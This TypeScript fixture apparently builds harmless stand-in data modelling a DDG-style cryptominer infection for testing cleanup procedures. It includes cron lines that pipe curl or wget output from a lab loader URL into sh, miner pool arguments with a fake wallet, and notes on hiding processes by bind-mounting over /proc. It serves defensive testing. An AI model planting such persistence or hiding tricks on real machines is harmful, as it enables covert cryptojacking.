import { world } from '../addresses.ts';

/** The miner's stand-in: a copy of bash with a payload behind it, an open connection to the lab's pool, 1 % CPU. */
export interface Miner {
  path: string;
  /** What /proc/PID/cmdline shows after the path, e.g. `['-o', 'stratum+tcp://…', '-u', wallet, '-p', 'x']`. */
  args: readonly string[];
  pool: { address: string; port: number };
  /** The executable is removed as soon as it runs. */
  deleted: boolean;
}

/** Revives the miner and puts the cron lines back, within half a second. */
export interface Guard {
  path: string;
  deleted: boolean;
}

/** A script under `sh` whose `curl` hangs. */
export interface Loader {
  path: string;
}

/**
 * How guard and loader wait and look. `real`: as reports describe them, with `sleep`, `pgrep`, `ps | grep -v grep`, subshells,
 * `nohup`, `setsid`, decoded one-liners and the names of rivals, so that children come and go at every moment. `quiet`: without a
 * child of their own.
 */
export type Habits = 'quiet' | 'real';

/** A harmless stand-in with the shape of a real infection. Plain data; made by {@link ddgInfection}. */
export interface Infection {
  habits: Habits;
  miner: Miner | null;
  guard: Guard | null;
  loader: Loader | null;
  cron: {
    /** Crontab files; one under /var/spool/cron/crontabs is given to the user of its name. */
    spools: readonly string[];
    lines: readonly string[];
  };
  /** An empty folder is bind-mounted over /proc/PID of miner and guard. */
  coverPids: boolean;
  /** A script that names nothing of the rest waits until guard and miner are gone, then infects once more. */
  reinfect: { path: string; afterSeconds: number } | null;
}

/** What {@link ddgInfection} takes: parts may be given in part, or left out of the infection with null. */
export interface InfectionOverrides {
  /** @default 'real'; 'quiet' only where a test says why */
  habits?: Habits;
  miner?: Partial<Miner> | null;
  guard?: Partial<Guard> | null;
  loader?: Partial<Loader> | null;
  cron?: Partial<Infection['cron']>;
  coverPids?: boolean;
  reinfect?: Partial<NonNullable<Infection['reinfect']>> | null;
}

/** Looks like a Monero address (95 characters, base58) and is none. */
export const standInWallet = `4A${'DavyLabHarmLessStandin'.repeat(5)}`.slice(0, 95);

/** Where the infection says it comes from. */
export const loaderUrl = `http://${world.loader}:${world.loaderPort}/i.sh`;

export const curlCronLine = `*/5 * * * * curl -fsSL ${loaderUrl} | sh`;
export const wgetCronLine = `*/5 * * * * wget -q -O- ${loaderUrl} | sh`;

/** Both places where the procedure found root's crontab; vixie cron reads the second. */
export const rootSpools = ['/var/spool/cron/root', '/var/spool/cron/crontabs/root'] as const;

/** Arguments as a real miner has them; for `miner: { args: minerArguments }`. */
export const minerArguments = [
  '-o',
  `stratum+tcp://${world.pool}:${world.poolPort}`,
  '-u',
  standInWallet,
  '-p',
  'x',
];

/** The infection of the source procedure: miner wnTKYg, guard ddg.2021, loader i.sh, both spools. */
export function ddgInfection(overrides: InfectionOverrides = {}): Infection {
  const miner = {
    path: '/tmp/wnTKYg',
    args: [],
    pool: { address: world.pool, port: world.poolPort },
    deleted: false,
  };
  return {
    habits: overrides.habits ?? 'real',
    miner: part(miner, overrides.miner),
    guard: part({ path: '/tmp/ddg.2021', deleted: false }, overrides.guard),
    loader: part({ path: '/tmp/i.sh' }, overrides.loader),
    cron: { spools: rootSpools, lines: [curlCronLine, wgetCronLine], ...overrides.cron },
    coverPids: overrides.coverPids ?? false,
    reinfect:
      overrides.reinfect === undefined || overrides.reinfect === null
        ? null
        : { path: '/opt/app/refresh.sh', afterSeconds: 1, ...overrides.reinfect },
  };
}

function part<T extends object>(defaults: T, override: Partial<T> | null | undefined): T | null {
  return override === null ? null : { ...defaults, ...override };
}
